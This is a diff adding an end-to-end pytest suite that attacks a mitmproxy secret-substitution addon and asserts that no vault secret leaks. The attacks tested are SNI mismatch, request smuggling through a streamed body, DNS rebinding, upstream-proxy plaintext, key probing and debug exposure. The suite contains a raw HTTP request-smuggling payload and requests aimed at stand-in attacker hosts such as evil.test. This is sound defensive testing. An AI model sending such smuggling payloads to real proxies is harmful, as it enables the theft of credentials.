@@ -1,0 +1,293 @@
+"""End to end: the attacks of the second containment review, each against a real mitmdump
+with the addon, a real client and real upstreams on loopback. Every test sends what an
+attacker would and fails if the secret reaches a place the rules never allowed.
+
+- A client's TLS server name other than the destination (eager and lazy connections).
+- An upstream that answers a streamed upload early, to make the rest of the body a request.
+- A name rebound to a reverse proxy's address (DNS rebinding).
+- An upstream proxy that would read a plain-HTTP secret.
+- A hostile page probing keys with vault_on_missing=keep.
+- A tiny request that would grow without bound; folded headers; refusals sniffed as HTML.
+- UIs and debug logs that would show values, and the supported way to watch flows.
+"""
+
+from __future__ import annotations
+
+import http.client
+import inspect
+import socket
+import subprocess
+import time
+from pathlib import Path
+
+import pytest
+import requests
+
+from tests.support.env import child_env
+from tests.support.net import LOOPBACK, free_port, wait_for_port, wait_until
+from tests.support.proxy import CLIENT_TIMEOUT, EXAMPLE_HOSTS, MITMDUMP, ADDON_SCRIPT, MitmdumpProcess, StartProxy, audit_lines
+from tests.support.tls import TLSMaterial, issue_server_material
+from tests.support.upstream import RecordingUpstream, Reply
+from vaultcore.vault import Vault
+
+TOKEN = "sk_live_Zq9Atk"  # a prefix of every value here: its presence anywhere is a leak
+
+
+def vault_with(home: Path, **secrets: tuple[str, list[str]]) -> Path:
+    vault = Vault(home)
+    for key, (value, hosts) in secrets.items():
+        vault.set(key, value, hosts=hosts)
+    return home
+
+
+def read_response(sock: socket.socket) -> http.client.HTTPResponse:
+    response = http.client.HTTPResponse(sock)
+    response.begin()
+    response.read()
+    return response
+
+
+def connect_tunnel(proxy: MitmdumpProcess, authority: str) -> socket.socket:
+    sock = socket.create_connection((LOOPBACK, proxy.port), timeout=CLIENT_TIMEOUT)
+    sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
+    established = http.client.HTTPResponse(sock)
+    established.begin()  # no body follows: the tunnel starts
+    assert established.status == 200
+    return sock
+
+
+# --- 1. the TLS server name ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("strategy", ["eager", "lazy"])
+def test_a_client_chosen_sni_never_carries_a_secret_elsewhere(
+    mitmdump: StartProxy, tls_material: TLSMaterial, tls_upstream: RecordingUpstream, tmp_path: Path, strategy: str
+) -> None:
+    """CONNECT to the allowed host, but name evil.test in the ClientHello: mitmproxy would connect
+    with that name and accept a server holding a valid certificate for evil.test (reached by
+    hijacking the allowed name, here: api.example.com resolves to the attacker's server)."""
+    home = vault_with(tmp_path / "home", **{"sni.tok": (TOKEN + "Sni", ["api.example.com"])})
+    evil_tls = issue_server_material(tls_material, tmp_path / "evil-tls", ["evil.test"])
+    with RecordingUpstream(tls=evil_tls) as evil:
+        proxy = mitmdump(options={"vault_home": str(home), "connection_strategy": strategy}, hosts=EXAMPLE_HOSTS)
+        client_tls = proxy.ssl_context()
+        client_tls.check_hostname = False  # the client lies about the name on purpose
+
+        def get(port: int, sni: str) -> http.client.HTTPResponse:
+            with connect_tunnel(proxy, f"api.example.com:{port}") as raw, client_tls.wrap_socket(raw, server_hostname=sni) as tls:
+                tls.sendall(f"GET /sni HTTP/1.1\r\nHost: api.example.com:{port}\r\nX-Token: <<vault:sni.tok>>\r\n\r\n".encode())
+                return read_response(tls)
+
+        response = get(evil.port, "evil.test")
+        assert TOKEN.encode() not in evil.all_bytes()
+        assert response.status in (403, 502), response.status
+        if response.status == 403:
+            assert response.getheader("X-Vaultproxy-Error") == "sni_mismatch"
+        # The same client naming the destination itself is served.
+        assert get(tls_upstream.port, "api.example.com").status == 200
+        assert tls_upstream.requests[-1].header("x-token") == TOKEN + "Sni"
+
+
+# --- 2. request smuggling through a streamed upload -----------------------------------------------
+
+
+def test_an_early_response_cannot_turn_a_streamed_body_into_a_request(
+    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
+) -> None:
+    """The upstream answers 401 on seeing the head; the client then sends the rest of its body,
+    which would be a second request if the proxy un-chunked the stream mid-body."""
+    home = vault_with(tmp_path / "home", **{"smug.tok": (TOKEN + "Smuggled", [LOOPBACK])})
+    upstream.route("/upload", Reply(status=401, body=b"go away", early=True))
+    proxy = mitmdump(options={"vault_home": str(home), "stream_large_bodies": "1k"})
+    first = b"a" * 4096
+    rest = (
+        b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.test\r\nX-Token: <<vault:smug.tok>>\r\n"
+        b"Content-Length: 0\r\n\r\n"
+    )
+    origin = f"{LOOPBACK}:{upstream.port}"
+    head = (
+        f"POST http://{origin}/upload HTTP/1.1\r\nHost: {origin}\r\nContent-Type: text/plain\r\n"
+        f"Content-Length: {len(first) + len(rest)}\r\nX-Token: <<vault:smug.tok>>\r\n\r\n"
+    )
+    with socket.create_connection((LOOPBACK, proxy.port), timeout=CLIENT_TIMEOUT) as sock:
+        sock.sendall(head.encode() + first)
+        assert read_response(sock).status == 401
+        sock.sendall(rest)
+        (upload,) = upstream.wait_for(1)
+    time.sleep(0.5)  # time for a smuggled request to arrive, if there is one
+    assert [r.path for r in upstream.requests] == ["/upload"]
+    assert upload.header("x-token") == TOKEN + "Smuggled" and upload.chunked
+    assert upload.body == first + rest.replace(b"<<vault:smug.tok>>", (TOKEN + "Smuggled").encode())
+    wait_until(lambda: bool(audit_lines(home, "/upload")), CLIENT_TIMEOUT, "the upload's audit line")
+    (line,) = audit_lines(home, "/upload")
+    assert line["keys"] == ["smug.tok"] and line["outcome"] == "resolved"
+
+
+# --- 5. DNS rebinding in reverse mode --------------------------------------------------------------
+
+
+def test_reverse_mode_serves_secrets_only_to_its_own_names(
+    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
+) -> None:
+    home = vault_with(tmp_path / "home", **{"rv.tok": (TOKEN + "Reverse", [LOOPBACK])})
+    proxy = mitmdump(
+        options={"vault_home": str(home), "vault_served_names": ["app.test"]},
+        args=["--mode", f"reverse:http://{LOOPBACK}:{upstream.port}"],
+    )
+    session = requests.Session()
+    session.trust_env = False
+
+    def get(host: str) -> requests.Response:
+        return session.get(f"http://{LOOPBACK}:{proxy.port}/rv", headers={"Host": host, "X-Token": "<<vault:rv.tok>>"},
+                           timeout=CLIENT_TIMEOUT)
+
+    refused = get("rebind.attacker.test")
+    assert refused.status_code == 403 and refused.headers["X-Vaultproxy-Error"] == "name_not_served"
+    assert TOKEN.encode() not in upstream.all_bytes()
+    for name in (f"{LOOPBACK}:{proxy.port}", f"localhost:{proxy.port}", "app.test"):
+        assert get(name).status_code == 200, name
+        assert upstream.requests[-1].header("x-token") == TOKEN + "Reverse"
+        # mitmproxy's reverse mode still sends the target's name upstream
+        assert upstream.requests[-1].header("host") == f"{LOOPBACK}:{upstream.port}"
+
+
+# --- 6. the plaintext rule on the hop the bytes travel ----------------------------------------------
+
+
+def test_an_upstream_proxy_hop_counts_for_the_plaintext_rule(
+    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
+) -> None:
+    """A secret for http://localhost goes to the next proxy in clear text: only a loopback one may see it."""
+    home = vault_with(tmp_path / "home", **{"up.tok": (TOKEN + "Upstream", ["localhost"])})
+    for next_proxy, allowed in ((f"proxy.example.com:{upstream.port}", False), (f"{LOOPBACK}:{upstream.port}", True)):
+        proxy = mitmdump(options={"vault_home": str(home)}, args=["--mode", f"upstream:http://{next_proxy}"], hosts=EXAMPLE_HOSTS)
+        with proxy.requests_session() as session:
+            response = session.get("http://localhost:9/up", headers={"X-Token": "<<vault:up.tok>>"}, timeout=CLIENT_TIMEOUT)
+        if allowed:
+            assert response.status_code == 200 and upstream.requests[-1].header("x-token") == TOKEN + "Upstream"
+        else:
+            assert response.status_code == 403 and response.headers["X-Vaultproxy-Error"] == "plaintext_not_allowed"
+            assert TOKEN.encode() not in upstream.all_bytes()
+        proxy.stop()
+
+
+# --- 14. keep mode does not tell a page which keys exist ---------------------------------------------
+
+
+def test_keep_mode_answers_a_page_alike_for_every_key(mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path) -> None:
+    home = vault_with(tmp_path / "home", **{"probe.known": (TOKEN + "Known", [LOOPBACK])})
+    proxy = mitmdump(options={"vault_home": str(home), "vault_on_missing": "keep"})
+    answers = set()
+    with proxy.requests_session() as session:
+        for key in ("probe.known", "probe.unknown"):
+            response = session.get(f"{upstream.url}/probe", headers={"Origin": "https://evil.page", "X-K": f"<<vault:{key}>>"},
+                                   timeout=CLIENT_TIMEOUT)
+            answers.add((response.status_code, response.headers.get("X-Vaultproxy-Error")))
+            assert upstream.requests[-1].header("x-k") == f"<<vault:{key}>>"
+    assert len(answers) == 1
+    assert TOKEN.encode() not in upstream.all_bytes()
+
+
+# --- 15, 17. growth, folded headers, refusal pages ----------------------------------------------------
+
+
+def test_substitution_cannot_grow_a_request_without_bound(mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path) -> None:
+    huge = TOKEN + "Huge" + "x" * (1024 * 1024 - 20)
+    home = vault_with(tmp_path / "home", huge=(huge, [LOOPBACK]))
+    proxy = mitmdump(options={"vault_home": str(home)})
+    with proxy.requests_session() as session:
+        response = session.post(f"{upstream.url}/grow", data=b"<<vault:huge>>" * 100,
+                                headers={"Content-Type": "text/plain"}, timeout=CLIENT_TIMEOUT)
+        assert response.status_code == 413 and response.headers["X-Vaultproxy-Error"] == "too_large"
+        assert "vault_max_growth" in response.text
+        assert not upstream.requests
+        # One use of the value is fine.
+        assert session.post(f"{upstream.url}/once", data=b"<<vault:huge>>", headers={"Content-Type": "text/plain"},
+                            timeout=CLIENT_TIMEOUT).status_code == 200
+
+
+def test_folded_headers_never_carry_a_secret(mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path) -> None:
+    home = vault_with(tmp_path / "home", **{"fold.tok": (TOKEN + "Fold", [LOOPBACK])})
+    proxy = mitmdump(options={"vault_home": str(home)})
+    origin = f"{LOOPBACK}:{upstream.port}"
+    with socket.create_connection((LOOPBACK, proxy.port), timeout=CLIENT_TIMEOUT) as sock:
+        sock.sendall(
+            f"GET http://{origin}/fold HTTP/1.1\r\nHost: {origin}\r\nX-Token: <<vault:fold.tok>>\r\n"
+            f"X-Folded: first\r\n second\r\n\r\n".encode()
+        )
+        response = read_response(sock)
+    if response.status == 400 and response.getheader("X-Vaultproxy-Error") is None:
+        pytest.skip("this mitmproxy rejects obs-fold itself")  # nothing reaches the addon: also safe
+    assert response.status == 400 and response.getheader("X-Vaultproxy-Error") == "obs_fold"
+    assert response.getheader("X-Content-Type-Options") == "nosniff"
+    assert TOKEN.encode() not in upstream.all_bytes()
+
+
+# --- 11. UIs and debug logs ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "option, message",
+    [("proxy_debug=true", "proxy_debug"), ("termlog_verbosity=debug", "termlog_verbosity=debug")],
+)
+def test_debug_logging_is_refused(tmp_path: Path, option: str, message: str) -> None:
+    command = [str(MITMDUMP), "--listen-host", LOOPBACK, "--listen-port", str(free_port()), "-s", str(ADDON_SCRIPT),
+               "--set", f"vault_home={tmp_path}", "--set", option]
+    done = subprocess.run(command, capture_output=True, timeout=CLIENT_TIMEOUT, env=child_env(), stdin=subprocess.DEVNULL)
+    assert done.returncode != 0
+    assert f"vaultproxy: {message}" in (done.stdout + done.stderr).decode()
+
+
+MITMWEB = MITMDUMP.with_name("mitmweb")
+
+
+def web_password_option() -> list[str]:
+    """mitmweb 11.1+ guards its API with a password; 11.0 has none."""
+    from mitmproxy.tools.web import webaddons
+
+    return ["--set", "web_password=vaultproxy-test"] if "web_password" in inspect.getsource(webaddons) else []
+
+
+def test_mitmweb_with_the_addon_is_refused(tmp_path: Path) -> None:
+    command = [str(MITMWEB), "--listen-host", LOOPBACK, "--listen-port", str(free_port()), "--set", "web_open_browser=false",
+               "--set", f"web_port={free_port()}", "-s", str(ADDON_SCRIPT), "--set", f"vault_home={tmp_path}", *web_password_option()]
+    done = subprocess.run(command, capture_output=True, timeout=CLIENT_TIMEOUT, env=child_env(), stdin=subprocess.DEVNULL)
+    assert done.returncode != 0
+    assert "vaultproxy: mitmweb shows requests while they carry secret values" in (done.stdout + done.stderr).decode()
+
+
+def test_mitmweb_in_front_of_vaultproxy_only_ever_holds_placeholders(
+    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
+) -> None:
+    """The README's way to watch flows: mitmweb chained to a headless vaultproxy."""
+    home = vault_with(tmp_path / "home", **{"web.tok": (TOKEN + "Web", [LOOPBACK])})
+    vaultproxy = mitmdump(options={"vault_home": str(home)})
+    listen, web = free_port(), free_port()
+    command = [str(MITMWEB), "--listen-host", LOOPBACK, "--listen-port", str(listen), "--mode", f"upstream:{vaultproxy.url}",
+               "--set", "web_open_browser=false", "--set", f"web_port={web}", "--set", f"confdir={tmp_path / 'web-confdir'}",
+               *web_password_option()]
+    with (tmp_path / "mitmweb.log").open("wb") as log:
+        mitmweb = subprocess.Popen(command, stdout=log, stderr=log, env=child_env(), stdin=subprocess.DEVNULL)
+        try:
+            wait_for_port(listen)
+            wait_for_port(web)
+            response = curl_through(listen, f"{upstream.url}/web?t=<<vault:web.tok>>", "-H", "X-Token: <<vault:web.tok>>")
+            assert response.returncode == 0, response.stderr
+            assert upstream.requests[-1].header("x-token") == TOKEN + "Web"
+            session = requests.Session()
+            session.trust_env = False
+            headers = {"Authorization": "Bearer vaultproxy-test"}
+            flows = session.get(f"http://{LOOPBACK}:{web}/flows", headers=headers, timeout=CLIENT_TIMEOUT)
+            assert flows.status_code == 200
+            assert "<<vault:web.tok>>" in flows.text and TOKEN not in flows.text
+            dump = session.get(f"http://{LOOPBACK}:{web}/flows/dump", headers=headers, timeout=CLIENT_TIMEOUT)
+            assert dump.status_code == 200 and TOKEN.encode() not in dump.content
+        finally:
+            mitmweb.terminate()
+            mitmweb.wait(CLIENT_TIMEOUT)
+    assert TOKEN not in (tmp_path / "mitmweb.log").read_text(errors="replace")
+
+
+def curl_through(port: int, url: str, *args: str) -> subprocess.CompletedProcess[bytes]:
+    command = ["curl", "--silent", "--show-error", "--proxy", f"http://{LOOPBACK}:{port}", "--noproxy", "", *args, url]
+    return subprocess.run(command, capture_output=True, env=child_env(), timeout=CLIENT_TIMEOUT, check=False)
